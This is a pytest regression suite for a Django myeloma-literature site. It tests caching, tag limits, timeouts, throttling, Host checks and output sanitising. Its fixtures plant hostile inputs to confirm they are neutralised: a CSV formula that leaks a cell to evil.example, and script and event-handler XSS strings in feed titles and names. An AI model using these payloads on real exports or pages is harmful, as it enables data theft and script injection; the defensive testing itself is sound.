"""Faults that showed only as deployed (page cache on, gunicorn, PostgreSQL) or when
the new surfaces were attacked. Each test failed on the code before the fix."""

import csv
import io
import json
import subprocess
import sys
from xml.etree import ElementTree

import feedparser
import pytest
from django.core.cache import caches
from django.core.handlers import wsgi
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext

from papers.catalogue.models import Paper, Tag
from papers.claims import exports as claim_exports
from papers.claims.models import Claim
from papers.search.indexing import index_papers
from papers.site.export import ExportThrottle
from papers.site.forms import MAX_TAGS
from tests.support.paths import ROOT
from tests.support.scratch import manage_env, postgres_url


@pytest.fixture
def claims(curated):
    """The demo collection with every tag and claim confirmed."""
    assert Claim.objects.update(status=Claim.Status.CONFIRMED) >= 1
    caches["default"].clear()


def test_the_sitemap_is_served_from_the_page_cache(client, curated, page_cache):
    for url in ("/sitemap.xml", "/sitemap-papers.xml", "/sitemap-tags.xml"):
        miss, hit = client.get(url), client.get(url)
        assert (miss.status_code, miss["X-Page-Cache"], hit.status_code, hit["X-Page-Cache"]) == (
            200,
            "miss",
            200,
            "hit",
        )
        assert miss.content == hit.content and ElementTree.fromstring(hit.content) is not None


# Every listing with a tag filter: pages, feeds, exports and the API.
LISTINGS = [
    "/search/",
    "/topics/cytokines-growth-factors/",
    "/tags/il-6/",
    "/search/feed.atom",
    "/tags/il-6/feed.rss",
    "/topics/cytokines-growth-factors/export.csv",
    "/search/export.ris",
    "/api/papers/",
    "/api/facets/",
]


@pytest.mark.parametrize("url", LISTINGS)
def test_too_many_tags_are_refused_before_any_search(client, curated, url):
    tags = list(Tag.objects.order_by("slug").values_list("slug", flat=True)[: MAX_TAGS + 1])
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, {"tag": tags})
    assert response.status_code == 400
    assert f"At most {MAX_TAGS} tags at once" in response.content.decode()
    assert not [q for q in queries.captured_queries if "papertag" in q["sql"] or "searchdocument" in q["sql"]]


@pytest.mark.parametrize("url", LISTINGS)
def test_an_unknown_tag_is_refused_naming_the_parameter(client, curated, url):
    response = client.get(url, {"tag": ["il-6", "t299"]})
    assert response.status_code == 400
    body = response.content.decode()
    assert "No such tag: t299." in body and ('"tag"' in body or "Tags (tag):" in body)


def test_tags_together_are_one_subquery_and_find_the_papers_with_every_tag(client, curated):
    tags = ["il-6", "nf-kb"]
    with CaptureQueriesContext(connection) as queries:
        found = json.loads(client.get("/api/papers/", {"tag": tags, "page_size": 100}).content)
    search = next(q["sql"] for q in queries.captured_queries if "searchdocument" in q["sql"].lower())
    assert search.count('"papers_tag"."slug" IN') == search.count("HAVING COUNT(DISTINCT") == 1
    every = Paper.objects.public()
    for slug in tags:
        every = every.filter(pk__in=Paper.objects.filter(paper_tags__tag__slug=slug, paper_tags__status="confirmed"))
    assert sorted(r["paper"]["pmid"] for r in found["results"]) == sorted(every.values_list("pmid", flat=True))
    assert found["total"] > 0


@pytest.mark.skipif(connection.vendor != "postgresql", reason="a statement time-out is PostgreSQL's")
def test_the_sites_connections_have_a_statement_timeout_and_commands_do_not():
    show = (
        "from django.db import connection; c = connection.cursor(); c.execute('SHOW statement_timeout');"
        " print(c.fetchone()[0])"
    )
    cancel = (
        "from django.db import connection, OperationalError\ntry:\n connection.cursor().execute('SELECT pg_sleep(3)')\n"
        "except OperationalError as error: print(type(error.__cause__).__name__)"
    )
    env = manage_env(
        postgres_url(connection.settings_dict["NAME"]),
        STATEMENT_TIMEOUT="1",
        DJANGO_SETTINGS_MODULE="myeloma_lit.settings",
    )
    site = subprocess.run(
        [sys.executable, "-c", f"import myeloma_lit.wsgi\n{show}\n{cancel}"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert site.stdout.split() == ["1s", "QueryCanceled"], site.stderr
    command = subprocess.run(
        [sys.executable, "manage.py", "shell", "-c", show],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert command.stdout.split()[-1:] == ["0"], command.stderr  # after the shell's banner


def test_the_claims_csv_writes_formulas_as_text(client, claims):
    claim = Claim.objects.public().first()
    claim.sentence = '=HYPERLINK("http://evil.example/?x="&A1,"Click") RANKL induces NF-kB.'
    claim.save(update_fields=["sentence"])
    Tag.objects.filter(pk=claim.agent_id).update(name="@SUM(1+1)")
    Tag.objects.filter(pk=claim.target_id).update(name="-2+3")
    rows = list(csv.DictReader(io.StringIO(client.get("/mechanisms/export.csv").content.decode())))
    ours = next(row for row in rows if row["sentence"].startswith("'="))
    assert (ours["agent_name"], ours["target_name"]) == ("'@SUM(1+1)", "'-2+3")
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]


def test_a_claims_csv_over_its_limit_is_refused_politely_and_the_query_is_bounded(client, claims, monkeypatch):
    total = Claim.objects.public().count()
    monkeypatch.setattr("papers.site.claims.CLAIM_EXPORT_LIMIT", total - 1)
    refused = client.get("/mechanisms/export.csv")
    assert refused.status_code == 400
    assert (
        f"This list has {total:,} claims; an export holds at most {total - 1:,}. "
        "Narrow it with a filter (an agent, a relation, a target) and export again."
    ) in refused.content.decode()
    with CaptureQueriesContext(connection) as queries:
        assert client.get("/mechanisms/export.sif").status_code == 200  # the network formats are summed
    with CaptureQueriesContext(connection) as queries:
        monkeypatch.undo()
        caches["default"].clear()
        assert client.get("/mechanisms/export.csv").status_code == 200
    rows = [q["sql"] for q in queries.captured_queries if "sentence" in q["sql"]]
    assert rows and all(f"LIMIT {claim_exports.CLAIM_EXPORT_LIMIT}" in sql for sql in rows)


@pytest.mark.parametrize("fmt", ["atom", "rss"])
@pytest.mark.parametrize("char", ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1c", "\x1f"])
def test_a_search_feed_with_a_control_character_is_a_feed(client, curated, fmt, char):
    response = client.get(f"/search/feed.{fmt}", {"q": f"my{char}eloma"})
    assert response.status_code == 200
    feed = feedparser.parse(response.content)
    assert not feed.bozo and feed.feed.title in (
        "Search: myeloma — Myeloma literature",
        "Search: my eloma — Myeloma literature",
    )  # whitespace kept as a space


def test_rss_text_fields_carry_no_markup(client, curated):
    feed = "/tags/proteasome-inhibitors/feed.rss"
    pmid = int(feedparser.parse(client.get(feed).content).entries[0].link.rstrip("/").rsplit("/", 1)[1])
    paper = Paper.objects.get(pmid=pmid)
    paper.title = "&lt;img src=x onerror=alert(1)&gt; Bortezomib &amp; <i>NF-κB</i>"
    paper.save(update_fields=["title"])
    index_papers([paper.pk])
    author = paper.authorships.order_by("position").first().author
    type(author).objects.filter(pk=author.pk).update(last_name="<b onmouseover=x>Evil</b>")
    Tag.objects.filter(slug="proteasome-inhibitors").update(name="<script>alert(1)</script>Proteasome inhibitors")
    body = client.get(feed).content.decode()
    item = next(i for i in ElementTree.fromstring(body).iter("item") if str(pmid) in i.findtext("link"))
    texts = [item.findtext("title"), *(e.text for e in item if e.tag.endswith("creator") or e.tag == "category")]
    assert item.findtext("title") == "Bortezomib & NF-κB"
    assert len(texts) > 2 and not [text for text in texts if "<" in text or ">" in text], texts


def test_unknown_parameters_neither_make_a_cache_key_nor_reach_the_page(client, claims, page_cache):
    assert client.get("/mechanisms/", {"agent": "il-6"})["X-Page-Cache"] == "miss"
    again = client.get("/mechanisms/", {"agent": "il-6", "x": "random", "utm_source": 'evil"><b>'})
    assert again["X-Page-Cache"] == "hit" and b"random" not in again.content and b"utm_source" not in again.content
    assert client.get("/search/", {"q": "bone", "zz": "1"})["X-Page-Cache"] == "miss"
    assert client.get("/search/", {"q": "bone", "zz": "2"})["X-Page-Cache"] == "hit"


def test_a_hit_parses_no_query_string(client, claims, page_cache, monkeypatch):
    """Keeping unknown parameters out of the key costs a repeat visit nothing: the key holds the
    known pairs as given, so a page served from the cache never parses the query string."""
    query = {"q": "bone loss", "sort": "newest", "tag": "rankl"}
    assert client.get("/search/", query)["X-Page-Cache"] == "miss"
    parsed = []
    monkeypatch.setattr(wsgi, "QueryDict", lambda *args, **kwargs: parsed.append(args) or QueryDict(*args, **kwargs))
    assert client.get("/search/", query)["X-Page-Cache"] == "hit"
    assert client.get("/search/", {"utm_source": "x", **query, "fbclid": "y"})["X-Page-Cache"] == "hit"
    encoded = client.get("/search/?%71=bone+loss&sort=newest&tag=rankl")  # q's name encoded: read, keyed apart
    assert encoded["X-Page-Cache"] == "miss" and b'value="bone loss"' in encoded.content
    assert len(parsed) == 1


@pytest.mark.parametrize("method", ["OPTIONS", "TRACE", "POST", "PUT", "DELETE", "PATCH"])
@pytest.mark.parametrize(
    "url", ["/sitemap.xml", "/", "/search/feed.atom", "/mechanisms/", "/robots.txt", "/favicon.ico"]
)
def test_other_methods_than_get_and_head_are_405_without_rendering(client, curated, page_cache, method, url):
    with CaptureQueriesContext(connection) as queries:
        response = client.generic(method, url)
    assert response.status_code == 405 and response["Allow"] == "GET, HEAD"
    assert response.content == b"" and not queries.captured_queries


def test_feeds_are_throttled_like_exports(client, curated, monkeypatch):
    monkeypatch.setattr(ExportThrottle, "rate", "3/minute")
    statuses = [client.get(f"/search/feed.atom?q=cells{i}").status_code for i in range(5)]
    assert statuses == [200, 200, 200, 429, 429]
    assert client.get("/search/export.csv?q=cells").status_code == 200  # a budget of their own


def test_the_finder_shows_titles_escaped_once(client, claims):
    claim = Claim.objects.public().select_related("paper").first()
    Paper.objects.filter(pk=claim.paper_id).update(title="Osteoclasts &amp; <i>RANKL</i> in myeloma")
    body = client.get("/mechanisms/", {"agent": claim.agent.slug}).content.decode()
    assert "Osteoclasts &amp; RANKL in myeloma" in body and "&amp;amp;" not in body


def test_an_empty_slug_filter_is_no_filter_in_behaviour_and_schema(client, claims):
    for url in ("/api/papers/?topic=", "/api/claims/?target=", "/api/claims/?agent=&target="):
        assert client.get(url).status_code == 200, url
    schema = json.loads(client.get("/api/schema/?format=json").content)
    parameters = {
        (path, p["name"]): p["schema"]
        for path, item in schema["paths"].items()
        for p in item.get("get", {}).get("parameters", [])
    }
    for key in (("/api/papers/", "topic"), ("/api/claims/", "target"), ("/api/claims/", "agent")):
        assert parameters[key].get("minLength", 0) == 0 and "pattern" not in parameters[key], key


def test_every_api_operation_documents_429(client, db):
    schema = json.loads(client.get("/api/schema/?format=json").content)
    operations = [op for item in schema["paths"].values() for op in item.values() if isinstance(op, dict)]
    assert len(operations) >= 10 and all("429" in op["responses"] for op in operations)


@pytest.mark.parametrize("url", ["/", "/robots.txt", "/api/papers/", "/search/feed.atom", "/sitemap.xml"])
def test_a_host_header_with_a_port_not_ours_is_refused(client, curated, page_cache, url):
    assert client.get(url, HTTP_HOST="testserver:6667").status_code == 400
    ours = client.get(url, HTTP_HOST="testserver:80")
    assert ours.status_code == 200 and b"6667" not in ours.content


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL's plans")
def test_ten_tags_read_the_tags_rows_once(curated):
    """The plan of the most tags a search takes: one scan of the confirmed tags, grouped by paper
    (one subquery per tag planned one scan each, and hundreds took the server down)."""
    from papers.search import postgres
    from papers.search.scope import Scope, SearchFilters

    tags = tuple(Tag.objects.order_by("slug").values_list("slug", flat=True)[:MAX_TAGS])
    conditions, params = Scope(SearchFilters(tags=tags)).conditions(postgres.HAS_TYPE)
    with connection.cursor() as cursor:
        cursor.execute(f"EXPLAIN SELECT paper_id FROM papers_searchdocument WHERE {conditions}", params)
        plan = "\n".join(row[0] for row in cursor.fetchall())
    assert plan.count(" on papers_papertag") == 1 and f"count(DISTINCT papers_papertag.tag_id) = {MAX_TAGS}" in plan, (
        plan
    )
